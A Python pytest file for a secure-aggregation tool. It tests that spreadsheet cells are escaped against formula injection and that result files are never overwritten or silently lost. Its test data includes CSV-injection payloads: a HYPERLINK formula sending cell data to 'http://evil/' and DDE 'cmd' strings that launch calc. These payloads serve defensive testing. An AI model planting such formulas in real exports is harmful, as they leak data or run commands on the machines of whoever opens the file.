"""What a party keeps of a run: never over something else, never lost, and no formula for a spreadsheet."""

from __future__ import annotations

import csv
import io
import json
import stat
import string
from collections.abc import Callable
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from secagg.errors import UsageError
from secagg.files import write_file
from secagg.jobs.output import Output
from secagg.jobs.spreadsheet import cell_of, csv_of, text_of

FORMULAS = [
    '=HYPERLINK("http://evil/?"&B2,"open")', "@SUM(1+1)*cmd|' /C calc'!A0", "+1+cmd|' /C calc'!A0", "-2+3+cmd", "=1",
    "\t=1", "\r=1", "\n=1", "  =1", "\xa0=1", "＝1+1", "＋1", "－1", "＠SUM(1)", "+", "-", "+1e5", "'=1", "'", "''",
]  # fmt: skip


@pytest.mark.parametrize("text", FORMULAS, ids=ascii)
def test_no_cell_begins_as_a_formula_does(text: str) -> None:
    cell = cell_of(text)
    assert cell == f"'{text}"
    assert text_of(cell) == text


@pytest.mark.parametrize(
    "text", ["-5", "+49301234", "1,234.50", "-1.5", "DE89", "anna", "a=1", "ä-1", "1e5", ""]
)
def test_numbers_and_plain_texts_are_not_touched(text: str) -> None:
    assert cell_of(text) == text


@pytest.mark.slow
@given(st.text(st.sampled_from("'=+-@\t\r\n ,;|\"a1.＝") | st.characters(codec="utf-8"), max_size=8))
def test_the_rule_can_be_turned_back_and_a_csv_reader_gets_the_cells(text: str) -> None:
    assert text_of(cell_of(text)) == text
    table = csv_of(["who", "total"], [(text, "5"), ("anna", "7")])
    rows = list(csv.reader(io.StringIO(table, newline="")))
    assert [(text_of(row[0]), row[1]) for row in rows[1:]] == [(text, "5"), ("anna", "7")]


@pytest.mark.parametrize("separator", ",;|\t")
def test_a_separator_of_whatever_kind_makes_no_second_cell(separator: str) -> None:
    line = csv_of(["who"], [[f"a{separator}=1+1"]]).splitlines()[1]
    assert next(csv.reader([line], delimiter=separator)) == [f"a{separator}=1+1"]


def test_a_directory_is_probed_and_left_as_it_was(tmp_path: Path) -> None:
    output = Output.probe(tmp_path / "new" / "out", me="north", job="j")
    assert list((tmp_path / "new/out").iterdir()) == []
    assert output.path(".csv") == tmp_path / "new/out/north.j.csv"


@pytest.mark.parametrize("name", ["north.j.csv", "north.j.json"])
def test_a_result_that_is_there_ends_the_run_before_it_begins(tmp_path: Path, name: str) -> None:
    (tmp_path / "south.j.csv").touch()
    Output.probe(tmp_path, me="north", job="j")
    (tmp_path / name).symlink_to("nowhere")
    with pytest.raises(UsageError, match=f"{name} exists and will not be overwritten"):
        Output.probe(tmp_path, me="north", job="j")


def test_where_nothing_can_be_written_is_found_at_once(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    (tmp_path / "file").touch()
    with pytest.raises(UsageError, match=r"cannot write the result to .*file"):
        Output.probe(tmp_path / "file", me="north", job="j")

    def full(*_: object, **__: object) -> None:
        raise OSError(28, "No space left on device")

    monkeypatch.setattr("secagg.jobs.output.write_file", full)
    with pytest.raises(UsageError, match="No space left on device; choose another directory"):
        Output.probe(tmp_path / "out", me="north", job="j")


def test_what_cannot_be_written_goes_to_a_directory_of_its_owners_alone(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    (tmp_path / "home").mkdir()
    monkeypatch.setenv("HOME", str(tmp_path / "home"))
    output = Output.probe(tmp_path / "out", me="north", job="j")
    (tmp_path / "out").rmdir()
    (tmp_path / "out").touch()  # somebody put a file there meanwhile
    (path,) = output.keep({".csv": b"content"}).values()
    assert path.read_bytes() == b"content"
    assert path.name == "north.j.csv"
    assert path.parent.parent == tmp_path / "home"
    assert stat.S_IMODE(path.parent.stat().st_mode) == 0o700
    assert stat.S_IMODE(path.stat().st_mode) == 0o600


def test_a_result_that_appeared_meanwhile_is_not_overwritten(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("HOME", str(tmp_path))
    output = Output.probe(tmp_path / "out", me="north", job="j")
    output.path(".csv").write_text("another run's")
    assert output.keep({".csv": b"content"})[".csv"].read_bytes() == b"content"
    assert output.path(".csv").read_text() == "another run's"


def test_what_follows_a_file_that_was_written_elsewhere_is_written_beside_it(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    (tmp_path / "home").mkdir()
    monkeypatch.setenv("HOME", str(tmp_path / "home"))
    output = Output.probe(tmp_path / "out", me="north", job="j")
    output.path(".csv").write_text("another run's")
    (result,) = output.keep({".csv": b"content"}).values()
    (record,) = output.keep({".json": b"record"}).values()
    assert result.parent == record.parent
    assert list((tmp_path / "home").iterdir()) == [record.parent]
    assert [path.name for path in (tmp_path / "out").iterdir()] == ["north.j.csv"]


FILES = {".csv": b"c" * 100, ".private.json": b"p", ".json": b"j" * 1000}


def failing(monkeypatch: pytest.MonkeyPatch, fails: Callable[[Path], bool]) -> None:
    """Let files of which `fails` says so not be written."""

    def write(path: Path, content: bytes, *, mode: int) -> None:
        if fails(path):
            raise OSError(28, "No space left on device")
        write_file(path, content, mode=mode)

    monkeypatch.setattr("secagg.jobs.output.write_file", write)


@pytest.mark.parametrize("bad", FILES)
def test_a_result_and_its_record_stay_together_whichever_of_them_does_not_fit(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, bad: str
) -> None:
    (tmp_path / "home").mkdir()
    monkeypatch.setenv("HOME", str(tmp_path / "home"))
    output = Output.probe(tmp_path / "out", me="north", job="j")
    failing(monkeypatch, lambda path: path == tmp_path / f"out/north.j{bad}")
    written = output.keep(FILES)
    assert {suffix: path.read_bytes() for suffix, path in written.items()} == FILES
    assert len({path.parent for path in written.values()}) == 1
    assert list((tmp_path / "home").iterdir()) == [written[".csv"].parent]
    assert list((tmp_path / "out").iterdir()) == []


def test_another_runs_file_is_not_taken_away_when_files_move_elsewhere(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("HOME", str(tmp_path))
    output = Output.probe(tmp_path / "out", me="north", job="j")
    output.path(".json").write_text("another run's")
    written = output.keep(FILES)
    assert written[".csv"].parent != tmp_path / "out"
    assert {path.name: path.read_text() for path in (tmp_path / "out").iterdir()} == {
        "north.j.json": "another run's"
    }


def test_what_fits_is_saved_and_named_when_something_fits_nowhere(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("HOME", str(tmp_path))
    output = Output.probe(tmp_path / "out", me="north", job="j")
    failing(monkeypatch, lambda path: path.suffixes[-2:] == [".j", ".json"])
    with pytest.raises(UsageError) as lost:
        output.keep(FILES)
    assert "cannot write north.j.json anywhere, it is lost" in str(lost.value)
    saved = sorted(path.name for path in (tmp_path / "out").iterdir())
    assert saved == ["north.j.csv", "north.j.private.json"]
    assert f"written: {tmp_path}/out/north.j.csv, {tmp_path}/out/north.j.private.json" in str(lost.value)
    assert [path.name for path in tmp_path.iterdir()] == ["out"]


def test_a_result_that_can_be_written_nowhere_is_said_to_be_lost(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    output = Output.probe(tmp_path / "out", me="north", job="j")

    def full(*_: object, **__: object) -> None:
        raise OSError(28, "No space left on device")

    monkeypatch.setenv("HOME", str(tmp_path))
    monkeypatch.setattr("secagg.jobs.output.write_file", full)
    with pytest.raises(UsageError, match=r"cannot write north\.j\.csv anywhere, it is lost: .*No space left"):
        output.keep({".csv": b"content"})
    assert [path.name for path in tmp_path.iterdir()] == ["out"]  # no empty directory is left behind


def test_records_of_failed_runs_have_names_of_their_own() -> None:
    output = Output(Path("out"), "north.j")
    first, second = output.failed_suffix(), output.failed_suffix()
    assert first != second
    assert set(first) <= set(string.ascii_letters + string.digits + ".-")
    assert first.startswith(".failed-")
    assert first.endswith("Z.json")
    assert json.dumps(str(output.path(first)))
